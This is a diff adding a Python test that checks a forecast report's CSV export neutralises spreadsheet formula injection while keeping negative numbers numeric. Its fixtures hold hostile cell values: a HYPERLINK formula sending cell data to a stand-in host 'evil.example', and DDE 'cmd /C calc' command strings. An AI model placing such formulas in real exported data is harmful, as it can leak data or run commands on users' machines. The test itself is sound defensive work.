@@ -60,6 +60,7 @@ from forecast_pipeline.defs.reports.jobs import (
 from forecast_pipeline.defs.reports.sensors import recover_unlaunched, report_run_failed, report_schedule_tick
 from forecast_pipeline.reports.config import get_report_settings, load_report_settings
 from forecast_pipeline.reports.limits import check_report_limit, month_start
+from forecast_pipeline.reports.render import render_csv
 from forecast_pipeline.reports.report import compute_figures, report_figures, report_paths
 from forecast_pipeline.reports.tick import run_key_for, tick
 from forecast_pipeline.resources import AppDatabase, RedisStore, SourceDatabase
@@ -1131,6 +1132,43 @@ def test_the_report_reads_like_a_document_for_a_customer(db, pg, rclient, tmp_pa
     assert {float(r["quantity"]) for r in history[:-8]} <= {0.0}
     assert "Expected demand, next 12 weeks" in html and f"{sum(50.0 + w for w in range(12)):,.0f}" in html
     assert "if every product" in html  # the total's range is described for what it is
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_text_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers(db, pg, rclient, tmp_path):
+    """OWASP CSV injection: a product (or account) name such as ``=HYPERLINK(...)`` must reach the
+    spreadsheet as text, so it gets a leading ``'``; a negative number stays a number."""
+    forecasts = {1: 10.0, 2: 20.0, 3: 30.0, 4: 40.0}
+    cache_forecasts(rclient, forecasts)
+    doc = payload(4, 40.0)
+    doc["predictions"][0]["confidence_lower"] = -3.5  # a lower bound below zero: a number, not text
+    forecast_cache.write_forecasts(
+        rclient, "forecast", AS_OF, [payload(p, b) for p, b in forecasts.items() if p != 4] + [doc], 600, 600
+    )
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
+    at_sign = "@SUM(1+1)*cmd|' /C calc'!A0"
+    add_products(pg, {1: hyperlink, 2: "+1 free sample", 3: "-5% pack", 4: at_sign})
+    add_weekly_orders(pg, 1, 4.0, weeks=2)
+    account = add_account(db, name="=cmd|' /C calc'!A0", parameters={"product_ids": [1, 2, 3, 4]})
+    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
+    with DagsterInstance.ephemeral() as instance:
+        (request,) = evaluate_tick(instance, db).run_requests
+        assert execute(request, db, instance, tmp_path).success
+    _, rows = report_of(db, schedule_id)
+    names = {r["product_id"]: r["product_name"] for r in rows if r["kind"] == "product"}
+    assert names == {"1": f"'{hyperlink}", "2": "'+1 free sample", "3": "'-5% pack", "4": f"'{at_sign}"}
+    lower = [r["confidence_lower"] for r in rows if r["kind"] == "product" and r["product_id"] == "4"]
+    assert lower[0] == "-3.5"  # unchanged: a spreadsheet reads it as the number -3.5
+    for row in rows:  # no cell but a number starts like a formula
+        for value in row.values():
+            if value.startswith(FORMULA_STARTS):
+                float(value)
+    # tab and carriage return too (names read from the products table are stripped, others may not be)
+    top = [{"product_id": 9, "name": name, "history": [-1.0], "weeks": []} for name in ("\tx", "\ry")]
+    parsed = list(csv.DictReader(io.StringIO(render_csv({"as_of_date": AS_OF, "weekly": [], "top_products": top}))))
+    assert [r["product_name"] for r in parsed] == ["'\tx", "'\ry"] and {r["quantity"] for r in parsed} == {"-1.0"}
 
 
 def test_a_report_covers_only_what_the_account_owns_or_names(db, pg, rclient, tmp_path):
